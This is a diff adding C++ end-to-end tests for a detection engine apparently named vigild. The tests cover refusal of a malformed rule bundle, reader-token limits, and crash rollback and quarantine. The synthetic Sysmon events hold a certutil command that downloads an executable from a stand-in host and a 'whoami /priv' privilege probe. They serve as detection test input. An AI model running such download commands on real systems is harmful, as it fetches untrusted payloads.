@@ -1,0 +1,183 @@
+// End to end: rule content against the vigild binary. The 21-fields case is refused by the
+// CLI and the API while the pipeline keeps its bundle and loses nothing; a bundle that
+// crashes the process (a test-only fault point) is rolled back after a crash during its
+// rollout, and quarantined after a crash loop following its activation, the process
+// coming back on the last known good bundle.
+
+#include <cstdlib>
+
+#include "e2e/e2e_support.h"
+
+namespace vigil {
+namespace {
+
+using e2e::AlertKey;
+using e2e::wait_for;
+namespace fs = std::filesystem;
+using namespace std::chrono_literals;
+
+const std::string kBundles = VIGIL_SOURCE_DIR "/tests/data/bundles/";
+constexpr char kWhoamiPriv[] = "1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e";     // default pack
+constexpr char kCertutilPack[] = "600b4d6f-49fb-4e4b-a78d-6352d47d7b7f";  // default pack
+constexpr char kCertutilGood[] = "6f0a2b7e-2d0d-4a4c-8d1b-5e2f3a1c9d22";  // tests/data/bundles/good
+
+// A whoami /priv and a certutil download: both default-pack rules fire; the "good" bundle
+// fires on the certutil one only (its whoami rule wants /all).
+std::vector<std::string> events(const std::string& prefix, int n) {
+  std::vector<std::string> out;
+  for (int i = 0; i < n; ++i) {
+    const std::string id = prefix + std::to_string(i);
+    out.push_back(R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
+                  id + R"(w","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv"})");
+    out.push_back(R"({"@timestamp":"2026-11-24T17:00:00.000Z","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
+                  id + R"(c","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe"})");
+  }
+  return out;
+}
+
+std::set<AlertKey> default_pack_alerts(const std::string& prefix, int n) {
+  std::set<AlertKey> out;
+  for (int i = 0; i < n; ++i) {
+    out.insert({kWhoamiPriv, prefix + std::to_string(i) + "w"});
+    out.insert({kCertutilPack, prefix + std::to_string(i) + "c"});
+  }
+  return out;
+}
+
+class ContentTest : public e2e::VigildFixture {
+ protected:
+  std::string cli(const std::string& args, int* rc) {
+    std::string output;
+    *rc = test::run_command(std::string(VIGIL_CLI_PATH) + " " + args + " 2>&1", &output);
+    return output;
+  }
+  std::string server_args(uint16_t port) {
+    return "--server http://127.0.0.1:" + std::to_string(port) + " --token " + kAdminToken;
+  }
+  rapidjson::Document rollout(uint16_t port) {
+    rapidjson::Document d;
+    d.Parse(api_get(port, "/api/v1/rollout").body.c_str());
+    return d;
+  }
+  void write_rollout_config(const std::string& policy) {
+    config_file();
+    std::ofstream(dir_ / "vigild.yml", std::ios::app) << "rollout:\n  policy: " << policy
+                                                      << "\n  stage_duration: 1s\n  crash_limit: 3\n";
+  }
+};
+
+TEST_F(ContentTest, TheTwentyFirstFieldIsRefusedAndThePipelineKeepsItsBundle) {
+  e2e::Broker broker(4);
+  ASSERT_FALSE(broker.bootstrap().empty());
+  std::unique_ptr<test::Subprocess> vigild;
+  const uint16_t port = start(vigild, {"--kafka-brokers", broker.bootstrap(), "--workers", "2"});
+  ASSERT_NE(port, 0) << log(1);
+  ASSERT_TRUE(wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s)) << log(1);
+  kcat_produce(broker.bootstrap(), events("a", 20));
+
+  int rc = 0;
+  std::string out = cli("bundle validate " + kBundles + "field21", &rc);
+  EXPECT_EQ(rc, 1) << out;
+  EXPECT_NE(out.find("unknown modifier 'field21'"), std::string::npos) << out;
+  EXPECT_NE(out.find("REFUSED"), std::string::npos) << out;
+  out = cli("bundle validate " + kBundles + "good", &rc);
+  EXPECT_EQ(rc, 0) << out;
+
+  out = cli("bundle push " + kBundles + "field21 " + server_args(port), &rc);
+  EXPECT_EQ(rc, 1) << out;
+  EXPECT_NE(out.find("HTTP 422"), std::string::npos) << out;
+  EXPECT_NE(out.find("unknown modifier 'field21'"), std::string::npos) << out;
+  auto st = rollout(port);
+  ASSERT_FALSE(st.HasParseError());
+  EXPECT_EQ(st["active"].GetUint64(), 1u);
+  EXPECT_STREQ(st["state"].GetString(), "idle");
+  const std::string list = api_get(port, "/api/v1/bundles").body;
+  EXPECT_NE(list.find(R"("status":"refused")"), std::string::npos) << list;
+
+  // A reader may look, not push.
+  out = cli("bundle push " + kBundles + "good --server http://127.0.0.1:" + std::to_string(port) + " --token " + kReaderToken, &rc);
+  EXPECT_EQ(rc, 1);
+  EXPECT_NE(out.find("HTTP 403"), std::string::npos) << out;
+
+  kcat_produce(broker.bootstrap(), events("b", 20));
+  auto expected = default_pack_alerts("a", 20);
+  const auto more = default_pack_alerts("b", 20);
+  expected.insert(more.begin(), more.end());
+  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= expected.size(); }, 30s)) << log(1);
+  std::this_thread::sleep_for(500ms);
+  const auto got = alerts(port);
+  EXPECT_EQ(got.size(), expected.size());
+  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), expected);
+  vigild->signal(SIGTERM);
+  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
+}
+
+TEST_F(ContentTest, ACrashDuringARolloutAndACrashLoopComeBackOnTheLastKnownGood) {
+  write_rollout_config("immediate");
+  e2e::Broker broker(2);
+  ASSERT_FALSE(broker.bootstrap().empty());
+  const std::vector<std::string> flags = {"--kafka-brokers", broker.bootstrap(), "--workers", "2"};
+  std::unique_ptr<test::Subprocess> vigild;
+
+  // 1. The bundle crashes the process as a shard switches to it: the next start finds the
+  //    rollout unfinished and rolls it back.
+  ::setenv("VIGIL_FAULTS", "crash_after_activate=good", 1);
+  uint16_t port = start(vigild, flags);
+  ::unsetenv("VIGIL_FAULTS");
+  ASSERT_NE(port, 0) << log(1);
+  int rc = 0;
+  std::string out = cli("bundle push " + kBundles + "good " + server_args(port), &rc);
+  EXPECT_EQ(vigild->wait(30s), 134) << log(1);  // SIGABRT
+  port = start(vigild, flags);
+  ASSERT_NE(port, 0) << log(2);
+  auto st = rollout(port);
+  EXPECT_EQ(st["active"].GetUint64(), 1u) << log(2);
+  EXPECT_NE(std::string(st["notice"].GetString()).find("ended abnormally during its rollout"), std::string::npos);
+  EXPECT_NE(test::http_get("127.0.0.1", port, "/healthz").body.find("rolled back"), std::string::npos);
+
+  // 2. Rolled out again (without the fault) it completes; the process stops cleanly.
+  out = cli("rollout start 2 --reason retry " + server_args(port), &rc);
+  EXPECT_EQ(rc, 0) << out;
+  ASSERT_TRUE(wait_for([&] { return rollout(port)["active"].GetUint64() == 2; }, 30s)) << log(2);
+  vigild->signal(SIGTERM);
+  EXPECT_EQ(vigild->wait(30s), 0) << log(2);
+
+  // 3. Now every start with it dies: three deaths within the crash window, then the next
+  //    start quarantines it and runs the last known good.
+  ::setenv("VIGIL_FAULTS", "crash_after_activate=good", 1);
+  for (int i = 0; i < 3; ++i) {
+    port = start(vigild, flags);
+    EXPECT_EQ(port, 0) << "start " << i << " should have died";
+    EXPECT_EQ(vigild->wait(30s), 134) << log(runs_);
+  }
+  port = start(vigild, flags);
+  ::unsetenv("VIGIL_FAULTS");
+  ASSERT_NE(port, 0) << log(runs_);
+  st = rollout(port);
+  EXPECT_EQ(st["active"].GetUint64(), 1u);
+  EXPECT_NE(std::string(st["notice"].GetString()).find("quarantined"), std::string::npos) << log(runs_);
+  EXPECT_NE(log(runs_).find("bundle 2 quarantined"), std::string::npos) << log(runs_);
+  const std::string health = test::http_get("127.0.0.1", port, "/healthz").body;
+  EXPECT_NE(health.find("quarantined"), std::string::npos) << health;
+  EXPECT_NE(api_get(port, "/api/v1/bundles/2").body.find(R"("status":"quarantined")"), std::string::npos);
+  out = cli("rollout start 2 " + server_args(port), &rc);
+  EXPECT_EQ(rc, 1) << out;
+  EXPECT_NE(out.find("quarantined"), std::string::npos) << out;
+
+  // The pipeline runs on the known good bundle and detects with it.
+  ASSERT_TRUE(wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s)) << log(runs_);
+  kcat_produce(broker.bootstrap(), events("q", 5));
+  const auto expected = default_pack_alerts("q", 5);
+  ASSERT_TRUE(wait_for([&] {
+    const auto got = alerts(port);
+    return std::set<AlertKey>(got.begin(), got.end()) == expected;
+  }, 30s)) << log(runs_);
+  out = cli("rollout audit " + server_args(port), &rc);
+  EXPECT_EQ(rc, 0);
+  EXPECT_NE(out.find("\"quarantined\""), std::string::npos) << out;
+  vigild->signal(SIGTERM);
+  EXPECT_EQ(vigild->wait(30s), 0) << log(runs_);
+}
+
+}  // namespace
+}  // namespace vigil
